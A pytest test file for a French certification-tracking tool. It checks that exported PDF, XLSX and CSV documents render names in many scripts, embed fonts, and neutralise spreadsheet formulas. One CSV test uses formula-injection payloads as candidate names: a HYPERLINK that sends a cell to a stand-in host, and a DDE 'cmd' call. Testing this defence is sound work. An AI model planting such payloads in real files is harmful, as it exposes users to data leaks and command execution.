"""The documents that leave carnet, read back with independent readers (pypdf, openpyxl, csv):
names in any script print and extract as written, what a font cannot draw is marked and
reported, numbers are numbers, formulas are neutralised, and the jury has what it needs."""

from __future__ import annotations

import csv
import io
import re
from datetime import UTC, date, datetime
from decimal import Decimal
from pathlib import Path

import openpyxl
import pypdf
import pytest

from models.threshold import CriterionState
from store.documents.dossier import dossier_pdf
from store.documents.glyphs import MISSING_MARK, REGULAR, codepoints, printable
from store.documents.inputs import listing_inputs
from store.documents.jury import national_pdf, national_sheet, national_xlsx
from store.documents.lookup import dossier_inputs
from store.documents.table import consolidated_sheets, neutralised, xlsx
from store.store import Store
from tests.signing import secret_of
from tui.cli import main

FRENCH = "Œdipe L’Hôte-Çàè « Élise »"
VIETNAMESE = "Nguyễn Thị Ánh"
POLISH = "Łukasz Wałęsa"
TURKISH = "Şahin Çağlar"
NOW = datetime(2026, 11, 23, 20, 0, tzinfo=UTC)


def text_of(pdf: bytes) -> str:
    reader = pypdf.PdfReader(io.BytesIO(pdf))
    return " ".join(" ".join(page.extract_text().split()) for page in reader.pages)


@pytest.fixture
def data(tmp_path: Path) -> tuple[Path, str, str, str]:
    folder = tmp_path / "data"
    with Store.open(folder) as store:
        tutor = store.create_person(POLISH, "CPAM du Rhône", ["tuteur"], "t")
        manager = store.create_person(TURKISH, "CPAM du Rhône", ["manager"], "t")
        evaluator = store.create_person("Иван Петров", "CAF", ["representant_metier"], "t")
        certifier = store.create_person("Δημήτρης Παπαδόπουλος", "Ucanss", ["certificateur"], "t")
        conseil = store.create_candidate(
            VIETNAMESE, "Caisse d’allocations familiales", "gestionnaire-conseil", "t",
            tutor=tutor, manager=manager,
        )  # fmt: skip
        store.sign_attestation(
            conseil, "gc.b2.c1", "tuteur", tutor, "Contrôle d’un dossier « urgent ».",
            secret_of(store, tutor),
        )  # fmt: skip
        grid = store.open_grid(conseil, "gc.b2", "t", evaluator=evaluator, certifier=certifier)
        store.mark_criteria(
            conseil,
            grid,
            [("gc.b2.c1.k1", CriterionState.VALIDATED, "Très bien, cœur du métier")],
            "t",
        )
        store.close_grid(conseil, grid, "Présentation écourtée par l’alarme incendie.", "t")
        store.sign_grid(conseil, grid, evaluator, secret_of(store, evaluator))
        store.sign_grid(conseil, grid, certifier, secret_of(store, certifier))
        store.amend_criterion(conseil, grid, "gc.b2.c1.k2", CriterionState.NOT_VALIDATED, "",
                              "Oubli de saisie constaté à la relecture.", evaluator,
                              secret_of(store, evaluator))  # fmt: skip
        agent = store.create_person("Sam Secrétariat", "Ucanss", ["secretariat"], "t")
        jury = [store.create_person(n, o, ["jury"], "t") for n, o in
                [("محمد علي", "Cnav"), ("Rémi Branche", "Carsat Nord-Est"),
                 ("Eva Métier", "Carsat Sud-Est")]]  # fmt: skip
        carriere = store.create_candidate(
            "Jeanne Martin", "Carsat Bretagne", "gestionnaire-carriere", "t",
            route="parcours_formation",
        )  # fmt: skip
        seats = list(
            zip(["caisse_nationale", "branche_retraite", "expert_metier"], jury, strict=True)
        )
        store.compose_jury(carriere, seats, "t")
        for evaluation, mark in [("cc_interbranche", "5,7"), ("cc_carriere", "16,4"),
                                 ("ecrit", "12,1"), ("oral", "9"), ("apt", "7,3")]:  # fmt: skip
            store.enter_mark(
                carriere, evaluation, mark, "t", by=jury[0] if evaluation == "oral" else agent
            )
        store.record_pass(carriere, True, "t")
        store.propose(carriere, "certification", "", jury[0], secret_of(store, jury[0]))
        store.proclaim(
            carriere,
            "certifie",
            "",
            date(2026, 11, 20),
            agent,
            confirmed_final=True,
            secret=secret_of(store, agent),
        )
        ucanss = store.create_person("Ursule Ucanss", "Ucanss", ["certificateur"], "t")
        vae = store.create_candidate(
            "Awa Diop", "Carsat Aquitaine", "gestionnaire-carriere", "t", route="vae"
        )
        store.decide_admissibility(
            vae, related=True, description="Technicienne retraite, liquidation des droits.",
            periods=[(date(2022, 1, 1), date(2025, 12, 31))], comment="", on=date(2026, 2, 1),
            author=ucanss,
        )  # fmt: skip
        store.receive_proof(vae, received=date(2026, 3, 1), attestation_3a=None,
                            oral_requested=False, author="t")  # fmt: skip
        store.compose_jury(vae, seats, "t")
        certified = [line.competency for line in store.referentials.carriere.certification]
        for number, competency in enumerate(certified):
            store.decide_competency(
                vae,
                competency,
                number < 10,
                f"Motif n° {number}",
                jury[0],
                secret_of(store, jury[0]),
            )
        store.propose(vae, "non_certification", "Cinq compétences à consolider.", jury[0],
                      secret_of(store, jury[0]))  # fmt: skip
        store.proclaim(vae, "validation_partielle", "Module « accueil » puis retour.",
                       date(2026, 6, 1), agent, confirmed_final=True, secret=secret_of(store, agent))  # fmt: skip
        store.start_attempt(vae, "Nouvelle présentation après formation.", "t")
    return folder, conseil, carriere, vae


def _dossier(folder: Path, candidate: str) -> str:
    with Store.open(folder) as store:
        snap, people = dossier_inputs(store, candidate)
        station = store.station.id
    rendered = dossier_pdf(snap, people, station=station, now=NOW)
    assert rendered.warnings == ()
    return text_of(rendered.data)


# --- part 1: Unicode PDF ----------------------------------------------------------------------


def test_names_in_any_script_print_and_extract_as_written(data: tuple[Path, ...]) -> None:
    """Main printed « Nguy?n Th? Ánh » and « ?ukasz Wa??sa »: Helvetica, WinAnsi, no font."""
    folder, conseil, carriere, _ = data
    text = _dossier(folder, conseil)
    for expected in [
        f"Dossier de certification — {VIETNAMESE}",
        f"Tuteur : {POLISH} (CPAM du Rhône) ; manager : {TURKISH} (CPAM du Rhône)",
        "Иван Петров (CAF)",
        "Δημήτρης Παπαδόπουλος (Ucanss)",
        "Caisse d’allocations familiales",
        "Contrôle d’un dossier « urgent »",
        "Très bien, cœur du métier",
        "Présentation écourtée par l’alarme incendie.",
        "Oubli de saisie constaté à la relecture.",
        "non évalué",
        # Each signature shown is checked against the registry's keys (issue 11).
        "(signature personnelle vérifiée)",
        "Grille : avenant — Иван Петров (CAF) : signature personnelle vérifiée",
    ]:
        assert expected in text, expected
    assert "enregistrée par le poste" not in text
    assert "?" not in text.replace("?»", "")
    other = _dossier(folder, carriere)
    for expected in ["Épreuves notées", "Epreuve orale", "9,00/20", "moyenne : 10,00/20",
                     "Proclamation du jury paritaire national le 20/11/2026 : certifié",
                     "Rémi Branche (Carsat Nord-Est)"]:  # fmt: skip
        assert expected in other, expected
    # Arabic is shaped and set right to left; pypdf gives its words back in reading order.
    assert "محمد" in other and "علي" in other


def test_the_pdf_embeds_subset_fonts_and_declares_pdfa(data: tuple[Path, ...]) -> None:
    folder, conseil, _, _ = data
    with Store.open(folder) as store:
        snap, people = dossier_inputs(store, conseil)
    pdf = dossier_pdf(snap, people, station="s", now=NOW).data
    reader = pypdf.PdfReader(io.BytesIO(pdf))
    fonts = set()
    for page in reader.pages:
        for font in page["/Resources"]["/Font"].values():
            font = font.get_object()
            descendant = font["/DescendantFonts"][0].get_object()
            assert "/FontFile2" in descendant["/FontDescriptor"].get_object()
            fonts.add(str(font["/BaseFont"]))
    # Subset fonts are named « ABCDEF+Name ».
    assert fonts and all(re.match(r"/?[A-Z]{6}\+DejaVuSans", f) for f in fonts), fonts
    assert len(pdf) < 200_000
    catalog = reader.trailer["/Root"]
    intent = catalog["/OutputIntents"][0].get_object()
    assert intent["/S"] == "/GTS_PDFA1"
    # « sRGB » is no registered printing condition: the intent names the profile it embeds.
    assert (intent["/OutputConditionIdentifier"], intent["/Info"]) == ("sRGB", "sRGB2014 (v2)")
    metadata = catalog["/Metadata"].get_object().get_data().decode()
    assert 'pdfaid:part="2"' in metadata or "<pdfaid:part>2</pdfaid:part>" in metadata
    assert "pdfaid:conformance" in metadata


def test_a_table_spans_the_text_width_under_a_shaded_header() -> None:
    """Column widths are proportions of the width between the margins (18 mm each side of
    an A4 page), whatever they add up to; the header row is filled, not outlined."""
    from pypdf.generic import ContentStream

    from store.documents.script import Script, render_pdf

    script = Script("Tableau", created=NOW)
    script.paragraph("Avant le tableau")
    script.table(["Critère", "État"], [["Accueille", "validé"]], [2, 1])
    reader = pypdf.PdfReader(io.BytesIO(render_pdf(script).data))
    ops = ContentStream(reader.pages[0].get_contents(), reader).operations
    at = next(i for i, (_, op) in enumerate(ops) if op == b"re")
    (_, _, width, _), _ = ops[at]
    text_width = (210 - 2 * 18) * 72 / 25.4  # in points
    assert float(width) == pytest.approx(text_width, abs=0.01)
    assert ops[at + 1][1] == b"f"  # filled with the colour set just before
    assert [round(float(v), 3) for v in ops[at - 1][0]] == [0.882, 0.902, 0.941]
    # A table is set smaller than the text around it.
    sizes = [(i, float(args[1])) for i, (args, op) in enumerate(ops) if op == b"Tf"]
    text = {size for i, size in sizes if i < at}
    table = {size for i, size in sizes if i > at}
    assert table and max(table) < min(text)


def test_a_character_no_font_has_is_marked_and_reported(tmp_path: Path,
                                                        capsys: pytest.CaptureFixture[str]) -> None:  # fmt: skip
    folder = tmp_path / "data"
    with Store.open(folder) as store:
        store.create_candidate("王小明 \x0bDupont", "CPAM", "gestionnaire-conseil", "t")
    out = tmp_path / "d.pdf"
    assert main(["dossier", "王小明 \x0bDupont", "--data", str(folder), "--out", str(out)]) == 0
    err = capsys.readouterr().err
    assert "U+738B" in err and "absent de la police" in err and "U+000B" in err
    text = text_of(out.read_bytes())
    assert f"{MISSING_MARK * 3} [U+000B]Dupont" in text
    assert "?" not in text


def test_printable_keeps_what_the_font_has_and_marks_the_rest() -> None:
    glyphs = codepoints(REGULAR)
    assert ord("ễ") in glyphs and ord("ı") in glyphs and 0x627 in glyphs
    assert printable("a\x00b\nc") == "a[U+0000]b[U+000A]c"
    assert printable("a\nb", multiline=True) == "a\nb"
    assert printable("a\r\nb\tc\rd", multiline=True) == "a\nb    c[U+000D]d"
    assert printable("中") == MISSING_MARK


def test_rows_never_split_across_pages(data: tuple[Path, ...]) -> None:
    from store.documents.pdf_writer import PdfDocument

    doc = PdfDocument("Lignes", created=NOW)
    rows = [[f"début {n}", "x " * 40 * (n % 5 + 1) + f"fin {n}"] for n in range(80)]
    doc.table(["A", "B"], rows, [0.3, 0.7])
    reader = pypdf.PdfReader(io.BytesIO(doc.render()))
    pages = [" ".join(page.extract_text().split()) for page in reader.pages]
    assert len(pages) > 3
    for n in range(80):
        assert any(f"début {n} " in page and f"fin {n}" in page for page in pages), n
    # The header is repeated at the top of each page.
    assert all(page.startswith("A B") for page in pages)


# --- part 2: the dossier de certification --------------------------------------------------


def test_every_vae_session_is_in_the_dossier(data: tuple[Path, ...]) -> None:
    """Main's PDF of a second VAE session dropped session 1's jury and decisions."""
    folder, _, _, vae = data
    text = _dossier(folder, vae)
    for expected in [
        "Session 1 — validation partielle",
        "Proposition du jury local le",
        "avis argumenté de non-certification — motifs : Cinq compétences à consolider.",
        "Proclamation du jury paritaire national le 01/06/2026 : validation partielle",
        "Préconisations : Module « accueil » puis retour.",
        "validée — acquise sans limite de durée",
        "Motif n° 12",
        "Nouvelle session demandée : Nouvelle présentation après formation.",
        "Session 2 (en cours)",
        "acquise (session antérieure)",
        "Rémi Branche (Carsat Nord-Est)",
    ]:
        assert expected in text, expected


def test_conflicts_are_in_plain_words(tmp_path: Path) -> None:
    """Main printed « mark:cc_interbranche : 9.0 … ; retenu e4351d13a479… »."""
    from tests.test_sync import _export, _import, _trust

    a, b, s = tmp_path / "a", tmp_path / "b", tmp_path / "s"
    with Store.open(a) as sa:
        # The written exam's mark is entered by the secretariat (the referential's entered_by).
        jury = sa.create_person("Claire Fonds", "Cnav", ["secretariat"], "t")
        carriere = sa.create_candidate(
            "Luc", "Carsat Bretagne", "gestionnaire-carriere", "t", route="parcours_formation"
        )
    for folder in (b, s):
        with Store.open(folder):
            pass
    from store.station import set_role

    set_role(s, "secretariat")  # bundles are encrypted to a trusted secretariat (issue 12)
    _trust(b, a, s)
    _trust(a, b, s)
    _trust(s, a, b)
    _import(b, _export(a, "a1.carnet", pour=b))
    with Store.open(a) as sa:
        sa.enter_mark(carriere, "ecrit", "12", "t", by=jury)
    with Store.open(b) as sb:
        sb.enter_mark(carriere, "ecrit", "14,5", "t", by=jury)
    _import(s, _export(a, "a2.carnet"), _export(b, "b1.carnet"))
    with Store.open(s) as store:
        (mark,) = store.snapshot(carriere).state.open_conflicts
        chosen = next(x for x in mark.sources if x.value == (Decimal("14.5"),))
        agent = store.create_person("Sam Secrétariat", "Ucanss", ["secretariat"], "s")
        store.resolve_conflict(
            carriere,
            mark.key,
            chosen.event,
            "Copie revue par le jury.",
            agent,
            secret_of(store, agent),
        )
    text = _dossier(s, carriere)
    assert "deux postes avaient enregistré la note « Epreuve écrite » différemment" in text
    assert "12,00/20 saisie par Claire Fonds (Cnav) le" in text
    assert re.search(
        r"14,50/20 retenu par Sam Secrétariat.{0,20} le \d\d/\d\d/\d{4} \d\d:\d\d : Copie revue",
        text,
    )
    assert chosen.event[:8] not in text and "mark:" not in text and "14.5" not in text


# --- part 3: XLSX and CSV -------------------------------------------------------------------


def _sheets(folder: Path) -> list:  # type: ignore[type-arg]
    with Store.open(folder) as store:
        listing = listing_inputs(store)
    return consolidated_sheets(listing.records, listing.referentials, listing.people)


def test_the_spreadsheet_holds_numbers_dates_and_a_usable_header(
    data: tuple[Path, ...],
) -> None:
    """Main wrote « 10,00 » as text, with no frozen header, filter nor widths."""
    folder, conseil, carriere, vae = data
    book = openpyxl.load_workbook(io.BytesIO(xlsx(_sheets(folder))))
    assert book.sheetnames == ["Compétences", "Candidats"]
    comps = book["Compétences"]
    assert comps.freeze_panes == "C2" and comps.auto_filter.ref
    assert comps.column_dimensions["G"].width >= 40
    rows = list(comps.iter_rows(values_only=True))
    mine = [r for r in rows if r[0] == conseil]
    assert len(mine) == 16 and mine[0][1] == VIETNAMESE
    assert all(isinstance(r[8], int) and isinstance(r[9], int) for r in mine)
    people = book["Candidats"]
    header = [c.value for c in people[1]]
    assert header[:5] == ["Identifiant", "Candidat", "Organisme", "CQP", "Voie"]
    line = next(r for r in people.iter_rows(min_row=2) if r[0].value == carriere)
    cell = {title: c for title, c in zip(header, line, strict=True)}
    assert cell["Moyenne /20"].value == 10 and cell["Moyenne /20"].number_format == "0.00"
    assert cell["Epreuve orale /20"].value == 9
    assert cell["Total /200"].value == 100
    assert cell["Décision du jury national"].value == "certifié"
    assert cell["Date de la décision"].value == datetime(2026, 11, 20)
    assert cell["Date de la décision"].number_format == "dd/mm/yyyy"
    assert isinstance(cell["Dernière modification"].value, datetime)
    assert "محمد علي (Cnav)" in cell["Jury local"].value
    assert cell["Pass"].value == "suivi" and cell["Session"].value == 1
    assert cell["Session"].number_format == "0"
    # Every value reads from the top of its row, whose height the longest text sets.
    assert {c.alignment.vertical for c in line if c.value is not None} == {"top"}
    assert cell["Voie"].value == "salarié en parcours de formation"
    assert cell["Conflits à trancher"].value == 0
    vae_line = next(r for r in people.iter_rows(min_row=2) if r[0].value == vae)
    assert {title: c.value for title, c in zip(header, vae_line, strict=True)}["Session"] == 2


def test_a_control_character_does_not_break_the_spreadsheet(tmp_path: Path) -> None:
    """Main wrote « \\x0b » raw: spreadsheet readers refused the file as not well-formed."""
    folder = tmp_path / "data"
    name = "Jean\x0bPierre\x01 _x0041_"
    with Store.open(folder) as store:
        store.create_candidate(name, "CPAM", "gestionnaire-conseil", "t")
    # openpyxl parses it (well-formed); the control characters are escaped as the format says
    # (« _x000B_ », and a literal « _x0041_ » as « _x005F_x0041_ »): spreadsheet applications
    # decode both, openpyxl only the second.
    book = openpyxl.load_workbook(io.BytesIO(xlsx(_sheets(folder))))
    assert ooxml_text(book["Candidats"]["B2"].value) == name


def ooxml_text(value: str) -> str:
    """A cell's text as openpyxl reads it, with the control characters' escapes decoded."""
    return re.sub(r"_x00([01][0-9A-F])_", lambda m: chr(int(m.group(1), 16)), value)


def test_csv_is_one_file_per_table_with_formulas_neutralised(tmp_path: Path,
                                                            capsys: pytest.CaptureFixture[str]) -> None:  # fmt: skip
    """Main stacked two tables in one file and let « =HYPERLINK(…) » through."""
    folder = tmp_path / "data"
    evil = ['=HYPERLINK("http://x.example/?"&A1,"clic")', "+cmd|' /C calc'!A0", "-2+3",
            "@SUM(A1)", "'déjà"]  # fmt: skip
    with Store.open(folder) as store:
        for name in evil:
            store.create_candidate(name, "=1+1", "gestionnaire-conseil", "t")
    out = tmp_path / "tableau.csv"
    assert main(["tableau", "--data", str(folder), "--out", str(out)]) == 0
    competences, candidats = (
        tmp_path / "tableau-competences.csv",
        tmp_path / "tableau-candidats.csv",
    )
    assert not out.exists() and competences.exists() and candidats.exists()
    for path in (competences, candidats):
        raw = path.read_bytes()
        assert raw.startswith(b"\xef\xbb\xbf")
        rows = list(csv.reader(io.StringIO(raw.decode("utf-8-sig"), newline=""), delimiter=";"))
        assert len({len(r) for r in rows}) == 1  # one table, one header
        cells = [c for r in rows[1:] for c in r]
        assert not any(c.startswith(("=", "+", "-", "@", "\t", "\r")) for c in cells)
        names = {r[1] for r in rows[1:]}
        assert names == {neutralised(n) for n in evil}
        assert {n[1:] for n in names} == set(evil)
    assert "tableau-candidats.csv" in capsys.readouterr().out
    # The store trims names; a tab or carriage return inside a cell's start is neutralised too.
    assert neutralised("\tx") == "'\tx" and neutralised("\rx") == "'\rx"


# --- part 4: a grid's document and the jury documents ---------------------------------------


def test_a_grid_document_from_the_command(data: tuple[Path, ...], tmp_path: Path) -> None:
    folder, conseil, _, _ = data
    out = tmp_path / "grille.pdf"
    assert main(["grille", VIETNAMESE, "2", "--data", str(folder), "--out", str(out)]) == 0
    text = text_of(out.read_bytes())
    for expected in [
        f"Grille d'évaluation — bloc 2 — {VIETNAMESE}",
        "Représentant métier : Иван Петров (CAF)",
        "Très bien, cœur du métier",
        "Signée par Δημήτρης Παπαδόπουλος (Ucanss) (Certificateur ou délégataire)",
        "Avenant du",
        "Oubli de saisie constaté à la relecture.",
        "Minimums non atteints",
        "Bloc 2 selon cette grille : non validé — 0/5 compétences validées, 4 requises.",  # signed
    ]:
        assert expected in text, expected
    assert (
        main(["grille", conseil, "1", "--data", str(folder), "--out", str(tmp_path / "x.pdf")]) == 1
    )


def test_jury_documents(data: tuple[Path, ...], tmp_path: Path) -> None:
    folder, _, carriere, vae = data
    pv = tmp_path / "pv.pdf"
    assert main(["jury", "pv", carriere, "--data", str(folder), "--out", str(pv)]) == 0
    text = text_of(pv.read_bytes())
    for expected in ["Procès-verbal du jury local — Jeanne Martin", "Rémi Branche",
                     "Carsat Nord-Est", "Epreuve orale", "9,00/20", "propose la certification",
                     "Signatures des membres du jury"]:  # fmt: skip
        assert expected in text, expected
    listing = tmp_path / "liste.xlsx"
    assert main(["jury", "liste", "--session", "20/11/2026", "--data", str(folder),
                 "--out", str(listing)]) == 0  # fmt: skip
    rows = list(openpyxl.load_workbook(listing).active.iter_rows(values_only=True))
    assert [r[1] for r in rows[1:]] == ["Jeanne Martin"]
    assert rows[1][5] == 10 and rows[1][10] == "certifié" and rows[1][11] == datetime(2026, 11, 20)
    pdf = tmp_path / "liste.pdf"
    assert main(["jury", "liste", "--session", "01/06/2026", "--data", str(folder),
                 "--out", str(pdf)]) == 0  # fmt: skip
    assert "Aucun candidat" in text_of(pdf.read_bytes())  # session 1 of the VAE was superseded
    with Store.open(folder) as store:
        # Session 2 of the VAE: the remaining competencies, then the local jury's proposal.
        store.receive_proof(vae, received=date(2026, 10, 1), attestation_3a=None,
                            oral_requested=False, author="t")  # fmt: skip
        seats = _seats(store)
        store.compose_jury(vae, seats, "t")
        member = seats[0][1]
        for line in store.referentials.carriere.certification[10:]:
            store.decide_competency(
                vae, line.competency, True, "", member, secret_of(store, member)
            )
        store.propose(vae, "certification", "", member, secret_of(store, member))
        listing_ = listing_inputs(store)
    sheet = national_sheet(listing_.records, listing_.people, None)
    assert [(r[1], r[4], r[6]) for r in sheet.rows] == [("Awa Diop", 2, "validation totale")]
    # The local jury's proposal in words, and what the national jury has yet to decide.
    assert sheet.rows[0][8:13] == ["propose la certification", "", "", None, ""]
    text = text_of(national_pdf(sheet, None, NOW).data)
    assert "Awa Diop" in text and "session 2" in text and "à proclamer" in text
    book = openpyxl.load_workbook(io.BytesIO(national_xlsx(sheet)))
    assert book.active.freeze_panes == "C2"


def _seats(store: Store) -> list[tuple[str, str]]:
    people = {p.name: p.person for p in store.people().values()}
    return [("caisse_nationale", people["محمد علي"]), ("branche_retraite", people["Rémi Branche"]),
            ("expert_metier", people["Eva Métier"])]  # fmt: skip


def test_a_document_never_replaces_a_file(
    data: tuple[Path, ...], tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """Every --out says « jamais écrasé » (a newcomer's walk found the dossier, the grid and
    the table written over files already there): the command refuses, naming the file."""
    folder, conseil, _, _ = data
    kept = tmp_path / "garde.pdf"
    kept.write_bytes(b"un document d'avant")
    for argv in (["dossier", conseil], ["grille", conseil, "2"]):
        assert main([*argv, "--data", str(folder), "--out", str(kept)]) == 1
        assert "existe déjà" in capsys.readouterr().err
        assert kept.read_bytes() == b"un document d'avant"
    table = tmp_path / "tableau.csv"
    (tmp_path / "tableau-candidats.csv").write_text("d'avant")
    assert main(["tableau", "--data", str(folder), "--out", str(table)]) == 1
    assert "existe déjà" in capsys.readouterr().err
    assert not (tmp_path / "tableau-competences.csv").exists()  # neither table written


def test_the_dossier_names_the_station_that_printed_it(tmp_path: Path) -> None:
    """Names rather than ids (issue 14): « Édité … par le secrétariat « Secrétariat des CQP »
    (Ucanss) », the identifier only while the folder has no name."""
    folder = tmp_path / "data"
    with Store.open(folder) as store:
        store.create_candidate("Ana Lima", "CPAM", "gestionnaire-conseil", "t")
    out = tmp_path / "d.pdf"
    assert main(["dossier", "Ana Lima", "--data", str(folder), "--out", str(out)]) == 0
    assert ", sans nom" in text_of(out.read_bytes())
    assert main(["station", "--data", str(folder), "--nom", "Tutorat Lyon",
                 "--organisme", "CPAM du Rhône"]) == 0  # fmt: skip
    named = tmp_path / "n.pdf"
    assert main(["dossier", "Ana Lima", "--data", str(folder), "--out", str(named)]) == 0
    text = text_of(named.read_bytes())
    assert "par le poste « Tutorat Lyon » (CPAM du Rhône)" in text
    assert "poste-" not in text
